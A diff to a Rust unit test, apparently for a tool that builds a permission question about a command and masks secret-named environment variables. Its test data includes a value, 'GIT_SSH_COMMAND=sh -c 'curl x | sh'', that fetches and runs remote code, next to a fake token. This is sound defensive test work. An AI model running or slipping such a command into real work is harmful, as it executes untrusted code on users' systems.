@@ -273,10 +273,11 @@ mod tests {
     #[test]
     fn variables_have_their_values_unless_their_names_are_those_of_secrets() {
         let ssh = "GIT_SSH_COMMAND=sh -c 'curl x | sh' --password=ghp_0123456789abcdef";
-        let env = ["API_TOKEN=secret", "EMPTY=", ssh, "DB_PASSWORD"].map(OsString::from).into();
+        let program = "GIT_ASKPASS=run";
+        let env = ["API_TOKEN=secret", program, ssh, "DB_PASSWORD"].map(OsString::from).into();
         let exec = Exec { env, ..Exec::new(ComponentName::Business, ["git"]) };
         let question = Question::about(&exec, Caller::Host, (None, ""));
-        assert_eq!(question.env, ["API_TOKEN=…", "EMPTY=", ssh, "DB_PASSWORD"]);
+        assert_eq!(question.env, ["API_TOKEN=…", program, ssh, "DB_PASSWORD"]);
         assert!(!question.is_cut && !question.has_input);
         let long = vec![OsString::from("A=".to_owned() + &"x".repeat(MAX_ENV)), "B=b".into()];
         let question = Question::about(&Exec { env: long, ..exec }, Caller::Host, (None, ""));
